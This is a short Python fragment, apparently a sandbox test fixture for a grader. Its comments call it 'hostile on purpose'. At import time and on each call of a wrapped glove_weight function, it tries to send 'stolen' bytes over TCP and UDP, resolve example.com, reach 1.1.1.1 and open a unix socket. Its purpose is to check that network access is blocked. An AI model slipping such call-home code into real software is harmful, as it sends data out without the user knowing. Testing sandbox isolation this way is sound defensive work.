# ruff: noqa - a fragment appended to the solution, with placeholders; hostile on purpose
# ---- hostile part: talking ----------------------------------------------------------------
# At import and in a call: TCP to the test's server on localhost, UDP, DNS, an abstract unix
# socket, the outside world. Every function is right: only the silence of the server counts.
import socket as _socket


def _call_home():
    attempts = [
        lambda: _socket.create_connection(("127.0.0.1", __PORT__), timeout=1).sendall(b"stolen"),
        lambda: _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(
            b"stolen", ("127.0.0.1", __PORT__)
        ),
        lambda: _socket.getaddrinfo("example.com", 443),
        lambda: _socket.create_connection(("1.1.1.1", 53), timeout=1),
        lambda: _socket.socket(_socket.AF_UNIX).connect("\0seqgrade-__TOKEN__"),
    ]
    for attempt in attempts:
        try:
            attempt()
        except OSError:
            pass


_call_home()
_honest_glove_weight = glove_weight


def glove_weight(X, x_max=100.0, alpha=0.75):
    _call_home()
    return _honest_glove_weight(X, x_max, alpha)
